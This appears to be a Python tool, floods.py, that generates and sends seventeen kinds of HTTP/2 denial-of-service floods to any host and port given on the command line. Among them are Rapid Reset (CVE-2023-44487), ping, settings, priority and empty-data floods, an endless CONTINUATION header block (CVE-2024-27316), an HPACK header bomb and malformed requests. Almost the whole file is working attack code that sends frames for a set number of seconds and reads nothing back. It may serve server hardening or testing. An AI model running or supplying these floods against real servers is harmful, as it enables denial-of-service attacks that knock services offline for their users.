"""Floods: frames that cost whoever sends them little, without end. As a program, one of them on one connection after the other:

    floods.py NAME HOST:PORT SECONDS
"""

import itertools
import socket
import struct
import sys
import time

from frames import PREFACE, literal
from frames import request as fields
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

REQUEST = fields(authority="localhost")


def request(stream, *flags):
    """Headers in literals alone, so that any number of frames may be made ahead and sent on any connection."""
    return HeadersFrame(stream, literal(REQUEST), flags=list(flags))


def rapid_reset(streams):
    """CVE-2023-44487."""
    for stream in streams:
        yield request(stream, "END_HEADERS", "END_STREAM")
        yield RstStreamFrame(stream, error_code=8)


def reset_by_the_server(streams):
    """The same from the other side: each request has an error for which the server resets the stream."""
    for stream in streams:
        yield request(stream, "END_HEADERS")
        yield WindowUpdateFrame(stream, window_increment=2**31 - 1)


def ping(streams):
    """Each asks for an answer (CVE-2019-9512)."""
    while True:
        yield PingFrame(0, b"12345678")


def settings(streams):
    """Each asks for an acknowledgement (CVE-2019-9515)."""
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})


def settings_acknowledged(streams):
    while True:
        yield SettingsFrame(0, flags=["ACK"])


def unknown(streams):
    """Frames of a type that nobody knows must be ignored (RFC 9113 §5.5)."""
    while True:
        yield b"\x00\x00\x00\xfa\x00\x00\x00\x00\x00"


def empty_data(streams):
    """Frames that carry nothing and end nothing (CVE-2019-9518)."""
    stream = next(streams)
    yield request(stream, "END_HEADERS")
    while True:
        yield DataFrame(stream, b"")


def padded_data(streams):
    """Frames that carry nothing but padding."""
    stream = next(streams)
    yield request(stream, "END_HEADERS")
    while True:
        yield DataFrame(stream, b"", pad_length=200, flags=["PADDED"])


def continuation(streams):
    """A header block that never ends (CVE-2024-27316)."""
    stream = next(streams)
    yield request(stream)
    while True:
        yield ContinuationFrame(stream, b"\x00\x01a\x01b" * 100)


def empty_continuation(streams):
    stream = next(streams)
    yield request(stream)
    while True:
        yield ContinuationFrame(stream, b"")


def header_bomb(streams):
    """One entry of 4 KB in the table of headers, named a thousand times in a block."""
    encoder = Encoder()
    stream = next(streams)
    block = encoder.encode(REQUEST + [("bomb", "x" * 3900)]) + b"\xbe" * 1000
    yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])
    for stream in streams:
        yield HeadersFrame(stream, encoder.encode(REQUEST) + b"\xbe" * 1000, flags=["END_HEADERS", "END_STREAM"])


def unfinished_requests(streams):
    """Requests that say how long they are and never come to it."""
    for stream in streams:
        yield request(stream, "END_HEADERS")
        yield DataFrame(stream, b"\x00" + struct.pack(">I", 4_000_000) + bytes(1000))


def priority(streams):
    """Streams that depend on one another and are never opened (CVE-2019-9513)."""
    for stream in streams:
        yield PriorityFrame(stream, depends_on=max(0, stream - 2), stream_weight=stream % 256)


def window_update(streams):
    while True:
        yield WindowUpdateFrame(0, window_increment=1)


def stream_window_update(streams):
    stream = next(streams)
    yield request(stream, "END_HEADERS")
    while True:
        yield WindowUpdateFrame(stream, window_increment=1)


def refused(streams):
    """Streams far above the limit."""
    for stream in streams:
        yield request(stream, "END_HEADERS")


def malformed(streams):
    """Requests without a path: each costs the server a reset."""
    for stream in streams:
        yield HeadersFrame(stream, literal(REQUEST[:2]), flags=["END_HEADERS", "END_STREAM"])


FLOODS = [
    rapid_reset, reset_by_the_server, ping, settings, settings_acknowledged, unknown, empty_data, padded_data, continuation,
    empty_continuation, header_bomb, unfinished_requests, priority, window_update, stream_window_update, refused, malformed]


def serialized(frame):
    return frame if isinstance(frame, bytes) else frame.serialize()


def send(frames, address, seconds):
    """Floods a server and reads nothing; answers with how many connections and frames that took."""
    host, _, port = address.rpartition(":")
    connections, sent, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        made = frames(itertools.count(1, 2))
        with socket.create_connection((host, int(port)), timeout=0.2) as connection:
            connections += 1
            try:
                connection.sendall(PREFACE + SettingsFrame(0).serialize())
                while time.monotonic() < deadline:
                    part = [serialized(frame) for frame in itertools.islice(made, 500)]
                    connection.sendall(b"".join(part))
                    sent += len(part)
            except (TimeoutError, ConnectionError):
                # It reads no more, or has hung up.
                continue
    return connections, sent


if __name__ == "__main__":
    name, address, seconds = sys.argv[1:]
    print(*send(globals()[name], address, float(seconds)))
